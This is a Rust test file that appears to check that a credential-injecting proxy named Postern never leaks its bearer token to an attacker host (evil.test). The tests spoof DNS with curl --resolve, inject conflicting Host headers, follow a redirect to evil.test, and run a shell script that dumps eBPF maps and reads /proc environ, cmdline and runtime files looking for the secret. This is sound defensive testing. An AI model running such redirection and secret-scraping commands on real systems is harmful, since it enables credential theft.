//! Attempts to make Postern send the credential elsewhere, or to somebody else.

use anyhow::{Context, Result, ensure};
use testkit::{Content, Nginx, SandboxOptions, Site, SiteAuth};

use crate::support::{self, TOKEN, World, counter, ok, output, stdout};

const OWN: &str = "192.0.2.66";

/// The Connector's server at its address, and the attacker's at another, which claims the
/// same name with a certificate of the same authority.
struct Attack {
    world: World,
    server: Nginx,
    attacker: Nginx,
}

impl Attack {
    fn new() -> Result<Self> {
        let world = World::with(
            &SandboxOptions::default()
                .host("api.test", support::ADDRESS.parse()?)
                .host("evil.test", OWN.parse()?),
        )?;
        let site = world.site(
            "api.test",
            443,
            SiteAuth::Bearer(TOKEN.into()),
            Content::Json("{}".into()),
        )?;
        let server = world.nginx(&[site])?;
        let sites = ["api.test", "evil.test"]
            .map(|name| -> Result<Site> {
                let mut site = world.site(
                    name,
                    443,
                    SiteAuth::None,
                    Content::Json("{\"evil\":1}".into()),
                )?;
                site.address.set_ip(OWN.parse()?);
                Ok(site)
            })
            .into_iter()
            .collect::<Result<Vec<_>>>()?;
        let attacker = world.nginx(&sites)?;
        Ok(Self {
            world,
            server,
            attacker,
        })
    }

    fn nothing_leaked(&self) -> Result<()> {
        let requests = self.attacker.requests()?;
        ensure!(
            requests
                .iter()
                .all(|request| request.authorization.is_none()),
            "the credential got out: {requests:?}"
        );
        Ok(())
    }

    fn run(&self, script: &str) -> Result<std::process::Output> {
        let manifest = self
            .world
            .manifest(&support::bearer("api", "https://api.test"))?;
        output(
            self.world
                .run_with(&manifest, &["--stats"], &["sh", "-c", script]),
        )
    }
}

#[test]
fn an_own_dns_answer_leads_to_a_direct_connection_without_credential() -> Result<()> {
    let attack = Attack::new()?;
    let ca = attack.world.pki.ca();
    let output = attack.run(&format!(
        "curl --silent --cacert {} --resolve api.test:443:{OWN} https://api.test/",
        ca.display()
    ))?;
    ensure!(stdout(&output) == "{\"evil\":1}", "{output:?}");
    ensure!(counter(&output, "untouched")? == 1 && counter(&output, "redirected")? == 0);
    ensure!(attack.attacker.requests_after(1)?.len() == 1);
    attack.nothing_leaked()
}

#[test]
fn an_own_address_that_is_redirected_still_leads_to_the_connectors_own() -> Result<()> {
    let attack = Attack::new()?;
    // A second Connector makes the attacker's address one that is redirected.
    let mut documents = support::bearer("api", "https://api.test").to_vec();
    documents.extend(support::basic("evil", "generic-basic", "https://evil.test"));
    let manifest = attack.world.manifest(&documents)?;
    let run = attack.world.run_with(
        &manifest,
        &["--stats"],
        &[
            "curl",
            "--silent",
            "--resolve",
            &format!("api.test:443:{OWN}"),
            "https://api.test/",
        ],
    );
    let output = ok(run)?;
    ensure!(counter(&output, "redirected")? == 1);
    ensure!(stdout(&output) == "{}", "{}", stdout(&output));
    ensure!(attack.server.requests_after(1)?[0].status == 200);
    ensure!(
        attack.attacker.requests()?.is_empty(),
        "the attacker was asked"
    );
    Ok(())
}

#[test]
fn a_host_that_differs_from_the_server_name_is_misdirected() -> Result<()> {
    let attack = Attack::new()?;
    for version in ["--http1.1", "--http2"] {
        let output = attack.run(&format!(
            "curl --silent {version} --write-out ' %{{http_code}}' -H 'Host: evil.test' https://api.test/"
        ))?;
        ensure!(stdout(&output).ends_with(" 421"), "{version}: {output:?}");
    }
    let output = attack.run(
        "printf 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n' \
         | openssl s_client -quiet -connect api.test:443 -servername api.test 2>/dev/null | head -1",
    )?;
    ensure!(stdout(&output).contains(" 400 "), "{output:?}");
    let output = attack.run(
        "printf 'GET https://evil.test/ HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n' \
         | openssl s_client -quiet -connect api.test:443 -servername api.test 2>/dev/null | head -1",
    )?;
    ensure!(stdout(&output).contains(" 400 "), "{output:?}");
    ensure!(
        attack.server.requests()?.is_empty(),
        "{:?}",
        attack.server.requests()?
    );
    attack.nothing_leaked()
}

#[test]
fn a_redirect_to_another_host_takes_no_credential_along() -> Result<()> {
    let world = World::with(
        &SandboxOptions::default()
            .host("api.test", support::ADDRESS.parse()?)
            .host("evil.test", OWN.parse()?),
    )?;
    let redirecting = world.site(
        "api.test",
        443,
        SiteAuth::Bearer(TOKEN.into()),
        Content::Redirect("https://evil.test".into()),
    )?;
    let server = world.nginx(&[redirecting])?;
    let mut evil = world.site("evil.test", 443, SiteAuth::None, Content::Json("{}".into()))?;
    evil.address.set_ip(OWN.parse()?);
    let attacker = world.nginx(&[evil])?;
    let manifest = world.manifest(&support::bearer("api", "https://api.test"))?;
    let run = world.run(
        &manifest,
        &[
            "curl",
            "--silent",
            "--location",
            "--insecure",
            "https://api.test/x",
        ],
    );
    ensure!(stdout(&ok(run)?) == "{}");
    ensure!(server.requests_after(1)?[0].authorization.is_some());
    let seen = attacker.requests_after(1)?;
    ensure!(
        seen[0].uri == "/x" && seen[0].authorization.is_none(),
        "{seen:?}"
    );
    Ok(())
}

#[test]
fn an_upstream_that_cannot_be_verified_gets_nothing() -> Result<()> {
    let world = World::new(&["untrusted.test", "expired.test", "wrong-name.test"])?;
    let mut sites = Vec::new();
    for (port, certificate) in [
        (1443, world.pki.untrusted(&["untrusted.test"])?),
        (2443, world.pki.expired(&["expired.test"])?),
        (3443, world.pki.server(&["another.test"])?),
    ] {
        let mut site = world.site("any.test", port, SiteAuth::None, Content::Json("{}".into()))?;
        site.tls = Some(certificate);
        sites.push(site);
    }
    let nginx = world.nginx(&sites)?;
    let mut documents = Vec::new();
    for (name, address) in [
        ("untrusted", "https://untrusted.test:1443"),
        ("expired", "https://expired.test:2443"),
        ("wrong-name", "https://wrong-name.test:3443"),
    ] {
        documents.extend(support::bearer(name, address));
    }
    documents.extend(support::oci("registry", "https://untrusted.test:1444"));
    let manifest = world.manifest(&documents)?;
    for (url, reason) in [
        ("https://untrusted.test:1443/", "issuer is not trusted"),
        ("https://expired.test:2443/", "expired"),
        ("https://wrong-name.test:3443/", "another name"),
        ("https://untrusted.test:1444/v2/", "\"errors\""),
    ] {
        for version in ["--http1.1", "--http2"] {
            let run = world.run(&manifest, &["curl", "--silent", version, "--include", url]);
            let text = stdout(&ok(run)?);
            ensure!(
                text.contains(" 502") && text.contains(reason),
                "{url} {version}: {text}"
            );
        }
    }
    ensure!(nginx.requests()?.is_empty(), "{:?}", nginx.requests()?);
    Ok(())
}

#[test]
fn the_secret_is_in_no_map_no_environment_and_no_argument() -> Result<()> {
    let attack = Attack::new()?;
    let manifest = attack
        .world
        .manifest(&support::bearer("api", "https://api.test"))?;
    let script = "curl --silent --fail https://api.test/ && for id in $(bpftool map show | grep -o '^[0-9]*'); do \
                  bpftool map dump id $id 2>/dev/null; done; cat /proc/self/environ /proc/*/cmdline | tr '\\0' '\\n'; \
                  cat /run/postern/*/*";
    let mut run = attack
        .world
        .run_with(&manifest, &["--log", "trace"], &["sh", "-c", script]);
    run.env_remove("RUST_LOG");
    let output = ok(run)?;
    let text = format!("{}{}", stdout(&output), support::stderr(&output));
    ensure!(
        text.contains("CREDENTIAL") || text.contains("generation"),
        "no map was dumped: {text}"
    );
    let encoded = testkit::base64::encode(TOKEN);
    for secret in [TOKEN, encoded.trim_end_matches('=')] {
        let at = text.find(secret);
        ensure!(
            at.is_none(),
            "found {:?}",
            text.get(at.context("found")?.saturating_sub(200)..)
        );
    }
    Ok(())
}
